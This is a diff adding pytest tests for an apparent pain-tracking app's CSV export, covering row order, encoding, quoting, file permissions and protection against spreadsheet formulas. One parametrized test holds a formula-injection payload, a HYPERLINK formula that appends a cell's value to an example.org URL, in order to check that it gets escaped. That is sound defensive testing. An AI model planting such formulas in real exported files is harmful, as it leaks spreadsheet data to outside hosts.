@@ -1,0 +1,59 @@
+"""The table for spreadsheets."""
+
+import csv
+import io
+import stat
+
+import pytest
+
+from footcoach.core.pain import BodySite, Pain, PainMoment
+from footcoach.core.record import RecordStatus
+from footcoach.storage.history.csv_file import HEADINGS, harmless, write_csv
+from tests.storage.history.transfers import make_record, new_history
+
+
+def table(tmp_path, *records):
+    """The rows that a program reads that keeps to RFC 4180."""
+    file = tmp_path / "table.csv"
+    assert write_csv(new_history(*records), file) == len(records)
+    text = file.read_bytes().decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+
+
+def test_csv__one_row_for_each_session_oldest_first(tmp_path):
+    pain = (
+        Pain(PainMoment.BEFORE, BodySite.FOOT, 2),
+        Pain(PainMoment.BEFORE, BodySite.HIP, 5),
+        Pain(PainMoment.NEXT_MORNING, BodySite.OVERALL, 0),
+    )
+    later = make_record(2, days_later=1, pain=(), note="", stop_reason=None, status=RecordStatus.FINISHED)
+    rows = table(tmp_path, later, make_record(1, pain=pain, note="well"))
+    assert rows == [
+        list(HEADINGS),
+        ["2026-11-23", "11:00", "back-pain-article", "ended early", "0.1", "0.1", "tired", "5", "", "0", "well"],
+        ["2026-11-24", "11:00", "back-pain-article", "finished", "0.1", "0.1", "", "", "", "", ""],
+    ]
+
+
+def test_csv__without_sessions(tmp_path):
+    assert table(tmp_path) == [list(HEADINGS)]
+
+
+def test_csv__bytes(tmp_path):
+    file = tmp_path / "table.csv"
+    write_csv(new_history(make_record(1, note='Say "ä",\r\nthen go')), file)
+    data = file.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfDay,Start time,")
+    assert data.endswith('"Say ""ä"",\r\nthen go"\r\n'.encode())
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_csv__nothing_begins_a_formula(tmp_path, begin):
+    note = f'{begin}HYPERLINK("http://example.org?"&A1)'
+    assert table(tmp_path, make_record(1, note=note))[1][-1] == f"'{note}"
+
+
+@pytest.mark.parametrize("text", ["", "well", "1 - 2 = -1", "'quoted", " =1"])
+def test_harmless__other_text_stays_as_it_is(text):
+    assert harmless(text) == text
